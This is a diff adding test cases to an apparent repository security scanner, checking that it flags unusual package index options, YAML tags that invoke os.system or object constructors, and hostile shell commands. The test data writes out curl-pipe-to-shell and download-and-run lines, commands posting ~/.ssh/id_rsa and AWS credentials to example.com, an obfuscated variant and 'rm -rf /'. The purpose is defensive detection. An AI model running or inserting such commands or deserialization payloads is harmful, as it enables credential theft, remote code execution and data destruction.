@@ -43,6 +43,12 @@ test('requirements from elsewhere are told, those of the usual index are not', a
     'https://example.com/x-1.0-py3-none-any.whl',
     '../local',
     '--trusted-host example.com',
+    '--index-u https://example.com/simple',
+    '--pre -i https://example.com/simple',
+    '-ihttps://example.com/simple',
+    '-r https://example.com/r.txt',
+    '"x @ https://example.com/x.whl"',
+    '--extra-index-url \\\n  https://example.com/simple',
   ])
     assert.deepEqual(
       await rules('requirements.txt', `torch==2.1\n${line}\n`),
@@ -142,4 +148,49 @@ test('lists of conda are requirements as well', async () => {
     await rules('environment.yml', 'dependencies:\n  - pip:\n    - git+https://example.com/x\n'),
     ['repo.requirement-source'],
   );
+});
+
+test('tags that call, and names that stand elsewhere, are followed', async () => {
+  for (const one of [
+    'a: !apply:os.system [id]\n',
+    'a: !new:os.system\n  command: id\n',
+    'a: !name:os.system\n',
+    'a: &t os.system\nb:\n  _target_: *t\n',
+  ])
+    assert.deepEqual(await rules('h.yaml', one), ['repo.dangerous-target'], one);
+  for (const one of [
+    'a: !<tag:yaml.org,2002:p%79thon/object/apply:os.system> [id]\n',
+    'a: !!javax.script.ScriptEngineManager []\n',
+    'a: !ruby/object:Gem::Installer\n  i: x\n',
+  ])
+    assert.deepEqual(await rules('h.yaml', one), ['yaml.python-object'], one);
+  assert.deepEqual(await rules('README.md', '---\na: !!python/object/apply:os.system [id]\n---\n# x\n'), [
+    'yaml.python-object',
+  ]);
+  assert.deepEqual(
+    await rules('h.yaml', 'a: &x {lr: 1}\nb: *x\nc: !new:torch.nn.Linear\n  n: !ref <a>\nd: *nothing\n'),
+    [],
+  );
+});
+
+test('commands of tasks, scripts and images', async () => {
+  for (const [name, command] of [
+    ['run.sh', 'bash -c "$(curl -fsSL https://example.com/x)"'],
+    ['run.sh', 'bash <(curl -s https://example.com/x)'],
+    ['run.sh', 'curl https://example.com/x -o /tmp/x && chmod +x /tmp/x && /tmp/x'],
+    ['run.sh', 'cat ~/.ssh/id_rsa | curl -d @- https://example.com'],
+    ['run.sh', 'curl -F f=@$HOME/.aws/credentials https://example.com'],
+    ['run.sh', 'cu\\\nrl https://example.com/x | s\\\nh'],
+    ['run.sh', 'rm -rf /'],
+    ['cog.yaml', 'build:\n  run:\n    - curl https://example.com/x | sh'],
+    ['model.R', 'system("curl https://example.com/x | sh")'],
+  ] as const)
+    assert.deepEqual(await rules(name, `${command}\n`), ['code.hostile-command'], command);
+  for (const [name, command] of [
+    ['Dockerfile', 'RUN apt-get install -y curl && rm -rf /var/lib/apt/lists/*'],
+    ['Dockerfile', 'RUN curl -o /usr/bin/tini https://example.com/tini && chmod +x /usr/bin/tini'],
+    ['run.sh', 'curl -s http://localhost:8000/health | python -m json.tool'],
+    ['README.md', 'curl -fsSL https://example.com/install.sh | sh'],
+  ] as const)
+    assert.deepEqual(await rules(name, `${command}\n`), [], command);
 });
